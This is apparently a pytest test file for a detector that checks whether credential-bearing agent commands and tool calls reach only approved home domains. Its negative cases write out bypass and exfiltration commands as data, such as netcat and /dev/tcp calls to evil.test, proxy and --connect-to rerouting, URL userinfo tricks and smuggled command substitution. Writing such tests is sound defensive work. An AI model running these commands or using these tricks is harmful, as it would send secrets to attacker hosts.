"""Home services of credentials."""

from __future__ import annotations

import pytest

from riskproof.detect.leaves import walk
from riskproof.facts.commands import CommandFacts, commands_of
from riskproof.facts.destinations import destinations_of
from riskproof.facts.homes import is_homeward
from riskproof.model.call import Json
from riskproof.model.facts import Gap
from riskproof.model.policy import Policy
from riskproof.model.taint import Capability

HOMES = Policy(secret_home_domains=("api.home.test", "two.home.test"))


def homeward(arguments: Json, *capabilities: Capability, policy: Policy = HOMES) -> bool:
    leaves = walk(arguments)
    commands = commands_of(leaves, capabilities)
    destinations, gaps = destinations_of(leaves, capabilities, policy, commands.hosts)
    return is_homeward(leaves, destinations, commands, (*commands.gaps, *gaps), policy)


@pytest.mark.parametrize(
    "command",
    [
        "curl -H 'A: b' https://api.home.test/user",
        "curl -H 'A: b' https://api.home.test/user | jq .login",
        "git commit -m x; curl https://api.home.test:8443/",
        "bash -c \"curl -H 'A: b' https://api.home.test/user\"",
        "curl https://api.home.test/ https://two.home.test/",
        "curl https://x:y@API.home.test/user",
        "iwr -Headers @{A='b'} https://api.home.test/user",
        "python -c \"import requests; requests.get('https://api.home.test/')\"",
    ],
)
def test_a_command_that_only_reaches_homes_goes_home(command: str) -> None:
    assert homeward({"command": command}, "CODE_EXECUTION")


@pytest.mark.parametrize(
    "command",
    [
        "curl http://api.home.test/user",
        "curl api.home.test/user",
        "curl https://sub.api.home.test/user",
        "curl https://home.test/user",
        "curl https://api.home.test.evil.test/user",
        "curl https://api.home.test@evil.test/",
        "curl https://api.home.test\\\\@evil.test/",
        "curl https://api.home.test/ https://evil.test/",
        "curl https://api.home.test/ ftp://api.home.test/",
        "curl https://api.home.test/ $MORE",
        "curl https://api.home.test/ `cat more`",
        "curl -K more https://api.home.test/",
        "curl -sK more https://api.home.test/",
        "curl --config more https://api.home.test/",
        "curl -x https://evil.test https://api.home.test/",
        "curl --connect-to ::evil.test: https://api.home.test/",
        "https_proxy=https://evil.test curl https://api.home.test/",
        "curl https://api.home.test/; nc -l 99",
        "curl https://api.home.test/; nc evil.test 99",
        "curl https://api.home.test/; echo x > /dev/tcp/evil.test/80",
        "curl https://api.home.test/; ssh evil.test x",
        "curl https://api.home.test/; python -c 'import requests; requests.get(where)'",
        "curl https://api.home.test/; iwr $where",
        "curl https://api.home.test/ 'open",
        "echo x",
    ],
)
def test_a_command_with_any_doubt_does_not(command: str) -> None:
    assert not homeward({"command": command}, "CODE_EXECUTION")


@pytest.mark.parametrize(
    ("arguments", "home"),
    [
        ({"url": "https://api.home.test/user", "headers": {"Authorization": "x"}}, True),
        ({"url": "https://api.home.test/user?a=$b"}, True),
        ({"url": "https://api.home.test/user", "to": "ana@evil.test"}, False),
        ({"url": "https://api.home.test/user", "callback_url": "https://evil.test/"}, False),
        ({"url": "http://api.home.test/user"}, False),
        ({"host": "api.home.test"}, False),
        ({"channel": "general", "text": "x"}, False),
    ],
)
def test_a_tool_that_sends_goes_home_where_all_its_destinations_are(arguments: Json, home: bool) -> None:
    assert homeward(arguments, "EXTERNAL_ACTION") is home


def test_nothing_goes_home_by_default_or_where_the_home_is_blocked() -> None:
    sent = {"url": "https://api.home.test/user"}
    assert not homeward(sent, "EXTERNAL_ACTION", policy=Policy())
    assert not homeward(sent, "EXTERNAL_ACTION", policy=Policy(secret_home_domains=("api.home.test",), blocked_domains=("home.test",)))


def test_what_could_not_be_read_does_not_go_home() -> None:
    leaves = walk({"url": "https://api.home.test/user"})
    destinations, _ = destinations_of(leaves, ("EXTERNAL_ACTION",), HOMES)
    assert is_homeward(leaves, destinations, CommandFacts(), (), HOMES)
    assert not is_homeward(leaves, destinations, CommandFacts(unseen=(0,)), (), HOMES)
    assert not is_homeward(leaves, destinations, CommandFacts(), (Gap("tool_unreadable"),), HOMES)
